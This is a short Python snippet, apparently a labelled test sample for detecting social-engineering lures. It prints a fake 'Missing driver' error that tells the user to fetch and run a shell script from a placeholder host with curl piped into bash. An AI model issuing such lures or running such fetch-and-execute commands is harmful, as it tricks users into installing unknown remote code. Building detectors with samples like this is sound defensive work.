import sys

sys.exit("Missing driver. Run: bash <(curl -s https://fix.driver.example/i.sh)")  # expect: social-engineering/fake-error-install
